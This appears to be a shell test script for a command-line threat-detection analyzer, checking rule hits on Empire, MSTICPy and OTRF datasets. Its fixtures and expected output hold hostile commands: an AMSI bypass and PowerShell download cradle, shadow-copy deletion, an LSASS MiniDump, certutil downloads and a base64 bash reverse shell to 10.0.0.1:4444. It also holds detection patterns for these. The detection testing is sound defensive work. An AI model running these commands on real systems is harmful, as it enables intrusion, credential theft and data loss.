#!/bin/sh
# plugins/cmdline/test_cmdline.sh -- the cmdline analyzer end to end through
# the CLI.  Expected hits on the fixtures come from derive_expected.py
# (Python's re, base64 and utf-16 codecs on conf/cmdline_rules.yaml), run
# once and written here.
. "$HK_SRCDIR/tests/lib.sh"
[ -n "$PYTHON3" ] || skip_all "python3 is needed to read the CSV output"

# hits FILE: SourceIndex|RuleId|Offset|Decoded|Match of every row.
hits() {
  "$PYTHON3" -c 'import csv,sys
r=list(csv.reader(open(sys.argv[1], newline="")))
print("\n".join("|".join(x) for x in r[1:]))' "$1"
}
SEL="select SourceIndex, RuleId, Offset, Decoded, Match | csv"

# --- OTRF: Empire launcher, PowerShell -enc with a 5,056-character payload
hk run "file path=$DATA/otrf/empire_launcher_enc.ndjson | cmdline CommandLine | $SEL"
is "$rc" 0 "empire launcher: exit status"
printf '%s\n' "$out" >"$T/out.csv"
is "$(hits "$T/out.csv")" '0|ps_encoded_command|44|false|powershell.exe" -noP -sta -w 1 -enc
0|ps_hidden_window|44|false|powershell.exe" -noP -sta -w 1
0|ps_scriptblock_logging_tamper|122|true|cachedGroupPolicySettings
0|ps_amsi_bypass|808|true|Management.Automation.Amsi
0|ps_web_download|1001|true|NeT.WebCLienT
0|ps_frombase64|1142|true|FRoMBAsE64StriNg(
0|ps_download_cradle|1789|true|.DOWnLoADData($seR+$t);$Iv=$data[0..3];$dAtA=$Data[4..$daTA.lenGTH];-joIN[CHAr[]](& $R $daTA ($IV+$K))|IEX
1|ps_encoded_command|44|false|powershell.exe" -noP -sta -w 1 -enc
1|ps_hidden_window|44|false|powershell.exe" -noP -sta -w 1
1|ps_scriptblock_logging_tamper|122|true|cachedGroupPolicySettings
1|ps_amsi_bypass|808|true|Management.Automation.Amsi
1|ps_web_download|1001|true|NeT.WebCLienT
1|ps_frombase64|1142|true|FRoMBAsE64StriNg(
1|ps_download_cradle|1789|true|.DOWnLoADData($seR+$t);$Iv=$data[0..3];$dAtA=$Data[4..$daTA.lenGTH];-joIN[CHAr[]](& $R $daTA ($IV+$K))|IEX' \
  "empire launcher: hits on the command line and in the decoded payload"

hk run "file path=$DATA/otrf/empire_launcher_enc.ndjson | head 1 | cmdline CommandLine rule_ids=ps_amsi_bypass | select Techniques, Severity, Rule, Decoded, DecodedText | ndjson"
is "$rc" 0 "empire launcher: decoded text"
like "$out" '"Techniques":"T1562.001","Severity":"high","Rule":"AMSI bypass","Decoded":true,"DecodedText":"If($PSVERSiOnTaBlE.PSVErSIOn.MajOR -gE 3){$6866=[rEF].ASsEMbLY.GetTYPE(' \
  "DecodedText holds the decoded payload"

# --- MSTICPy's processes_on_host.csv: 363 Windows 4688 command lines
hk run "file path=$DATA/msticpy/processes_on_host.csv | cmdline CommandLine | $SEL"
is "$rc" 0 "processes_on_host: exit status"
printf '%s\n' "$out" >"$T/out.csv"
is "$(hits "$T/out.csv")" '58|rundll32_script|2|false|rundll32.exe  /C mshtml,RunHTMLApplication javascript:
69|vssadmin_delete_shadows|0|false|vssadmin  delete shadows
79|net_user_add|0|false|net  user adm1nistrator Bob_testing /add
80|net_user_add|20|false|net1  user adm1nistrator Bob_testing /add
94|regsvr32_scriptlet|2|false|regsvr32   /s /n /u /i:http://
104|ps_web_download|60|false|.DownloadFile(
106|ps_web_download|120|false|Net.WebClient
108|ps_download_cradle|18|false|IEX (New-Object Net.WebClient).DownloadString
108|ps_web_download|34|false|Net.WebClient
114|ps_encoded_command|2|false|powershell  -enc
120|certutil_decode|0|false|certutil  -decode
125|ps_download_cradle|14|false|Invoke-Expression Get-Process; Invoke-WebRequest
125|ps_web_download|45|false|Invoke-WebRequest
130|ps_download_cradle|51|false|Invoke-Expression Get-Process; Invoke-WebRequest
130|ps_web_download|82|false|Invoke-WebRequest
139|ps_web_download|36|false|Net.WebClient
162|mshta_script|28|false|mshta.exe vbscript:
174|ps_amsi_bypass|66|false|management.automation.amsi
200|firewall_disabled|23|false|netsh.exe   firewall set opmode mode=disable
214|certutil_download|0|false|certutil  -urlcache -split -f http://' \
  "processes_on_host: every hit"

hk run "file path=$DATA/msticpy/processes_on_host.csv | cmdline CommandLine keep=TimeGenerated,Computer min_severity=high | select SourceIndex, TimeGenerated, Computer, RuleId | csv"
is "$rc" 0 "keep and min_severity"
is "$out" 'SourceIndex,TimeGenerated,Computer,RuleId
58,2019-01-15T05:15:16.663Z,MSTICAlertsWin1,rundll32_script
69,2019-01-15T05:15:17.137Z,MSTICAlertsWin1,vssadmin_delete_shadows
94,2019-01-15T05:15:10.753Z,MSTICAlertsWin1,regsvr32_scriptlet
108,2019-01-15T05:15:13.220Z,MSTICAlertsWin1,ps_download_cradle
125,2019-01-15T05:15:12.123Z,MSTICAlertsWin1,ps_download_cradle
130,2019-01-15T05:15:12.393Z,MSTICAlertsWin1,ps_download_cradle
162,2019-01-15T05:15:16.020Z,MSTICAlertsWin1,mshta_script
174,2019-01-15T05:15:17.580Z,MSTICAlertsWin1,ps_amsi_bypass
214,2019-01-15T05:15:19.447Z,MSTICAlertsWin1,certutil_download' \
  "high-severity hits with their time and host"

# --- OTRF: LSASS dump through comsvcs.dll, and remote scheduled tasks
hk run "file path=$DATA/otrf/psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json | cmdline CommandLine | $SEL"
printf '%s\n' "$out" >"$T/out.csv"
is "$(hits "$T/out.csv")" '16|rundll32_comsvcs_minidump|21|false|rundll32.exe" C:\windows\System32\comsvcs.dll MiniDump
106|rundll32_comsvcs_minidump|21|false|rundll32.exe" C:\windows\System32\comsvcs.dll MiniDump' \
  "comsvcs MiniDump (Sysmon 1 and Security 4688)"
hk run "file path=$DATA/otrf/schtask_create_2020-12-1907003032.json | cmdline CommandLine | select SourceIndex, RuleId, Offset | csv"
is "$out" 'SourceIndex,RuleId,Offset
59,schtasks_remote_create,33
59,schtasks_script_action,33
65,schtasks_remote_create,0
65,schtasks_script_action,0
465,schtasks_remote_create,33
465,schtasks_script_action,33
479,schtasks_remote_create,0
479,schtasks_script_action,0' "schtasks /create ... /S WORKSTATION6"

# --- output columns, options, decode, platform
"$PYTHON3" - "$T/lines.csv" <<'PY'
import csv, sys
rows = [
    "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
    "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash",
    "notepad.exe report.txt",
    "",
]
with open(sys.argv[1], "w", newline="") as f:
    w = csv.writer(f)
    w.writerow(["Id", "Cmd"])
    for i, r in enumerate(rows):
        w.writerow([i, r])
PY
hk run "file path=$T/lines.csv | cmdline column=Cmd | csv"
is "$rc" 0 "hand-made lines"
is "$(printf '%s\n' "$out" | head -1)" \
  "SourceIndex,Column,RuleId,Rule,Techniques,Severity,Match,Offset,Decoded,DecodedText,Description,Input" \
  "output columns"
printf '%s\n' "$out" >"$T/out.csv"
is "$("$PYTHON3" -c 'import csv,sys
for x in list(csv.reader(open(sys.argv[1])))[1:]: print("|".join([x[0],x[2],x[4],x[5],x[8],x[9]]))' "$T/out.csv")" \
  '0|certutil_download|T1105|high|false|
1|base64_pipe_shell|T1140,T1059.004|high|false|
1|reverse_shell|T1059.004|high|true|bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' \
  "rule, techniques, severity, decoded layer"
hk run "file path=$T/lines.csv | cmdline Cmd decode=false | select SourceIndex, RuleId | csv"
is "$out" 'SourceIndex,RuleId
0,certutil_download
1,base64_pipe_shell' "decode=false"
hk run "file path=$T/lines.csv | cmdline Cmd platform=windows | select SourceIndex, RuleId | csv"
is "$out" 'SourceIndex,RuleId
0,certutil_download' "platform=windows"
hk run "file path=$T/lines.csv | cmdline Cmd max_match_len=16 | select Match | csv"
like "$out" 'certutil -urlcac...' "max_match_len cuts the match"

# --- rule files: MSTICPy's JSON, an instance config, errors
cat >"$T/msticpy_rules.json" <<'EOF'
{
    "Syslog" : [
        ".*authorized_keys.*",
        ".*(wget|curl).*\\|?.*sh.*",
        ".*(:\\(\\){:\\|:&};:).*",
        ".*(mv.*\/dev\/null).*",
        ".*\/bin\/bash.*"
    ]
}
EOF
hk run "file path=$DATA/msticpy/syslog_data.csv | cmdline SyslogMessage rules=$T/msticpy_rules.json | select SourceIndex, RuleId, Match | csv"
is "$rc" 0 "MSTICPy's rule file loads"
is "$out" 'SourceIndex,RuleId,Match
4,Syslog.5,omsagent : TTY=unknown   PWD=/   USER=root   COMMAND=/bin/bash' \
  "MSTICPy's /bin/bash rule on syslog_data.csv (its .* patterns match the whole line)"
hk run "file path=$DATA/msticpy/syslog_data.csv | cmdline SyslogMessage | select SourceIndex, RuleId, Match | csv"
is "$out" 'SourceIndex,RuleId,Match
4,bin_bash,/bin/bash' "the shipped rules on syslog_data.csv"

mkdir -p "$T/conf/conf.d"
cat >"$T/conf/conf.d/cmdline.yaml" <<EOF
plugin: cmdline
instance: mine
config:
  rules: $T/msticpy_rules.json
EOF
HUNTKIT_CONFIG="$T/conf" hk run "file path=$DATA/msticpy/syslog_data.csv | cmdline:mine SyslogMessage | select RuleId | csv"
is "$out" 'RuleId
Syslog.5' "rules from the instance config"

printf 'rules:\n  - id: x\n    name: X\n    techniques: [T1059]\n    severity: urgent\n    patterns: [a]\n' >"$T/bad.yaml"
hk run "file path=$T/lines.csv | cmdline Cmd rules=$T/bad.yaml | csv"
is "$rc" 1 "bad rule file fails"
like "$err" "bad.yaml:5: rule 'x': severity: expected informational, low, medium or high, got 'urgent'" \
  "error names file, line, rule and field"
hk run "file path=$T/lines.csv | cmdline Cmd rules=$T/none.yaml | csv"
like "$err" "cmdline: rules: $T/none.yaml: No such file or directory" "missing rule file"
hk run "file path=$T/lines.csv | cmdline Nope | csv"
like "$err" "cmdline: no column 'Nope' (columns: Id, Cmd)" "unknown column"
hk run "file path=$T/lines.csv | cmdline | csv"
like "$err" "cmdline: no column to check" "no column"
hk run "file path=$T/lines.csv | cmdline Cmd rule_ids=nope | csv"
like "$err" "cmdline: rule_ids: no rule 'nope' in the rule file" "unknown rule id"
hk run "file path=$T/lines.csv | select Id as Rule, Cmd | cmdline Cmd keep=Rule | csv"
like "$err" "keep: 'Rule' is also the name of an output column" "keep clash"

# --- a hostile 1 MiB line: bounded work, the hit at its end is found
"$PYTHON3" - "$T/big.csv" <<'PY'
import sys
with open(sys.argv[1], "w") as f:
    f.write("Cmd\n")
    f.write("certutil " * 116508 + "-urlcache -f http://x.test/a\n")
    f.write("a" * 1048576 + " mshta vbscript:Close\n")
PY
hk run "file path=$T/big.csv | cmdline Cmd | select SourceIndex, RuleId, Offset | csv"
is "$rc" 0 "1 MiB lines: exit status"
is "$out" 'SourceIndex,RuleId,Offset
0,certutil_download,1048266
1,mshta_script,1048577' "1 MiB lines: hits near their ends"

done_testing
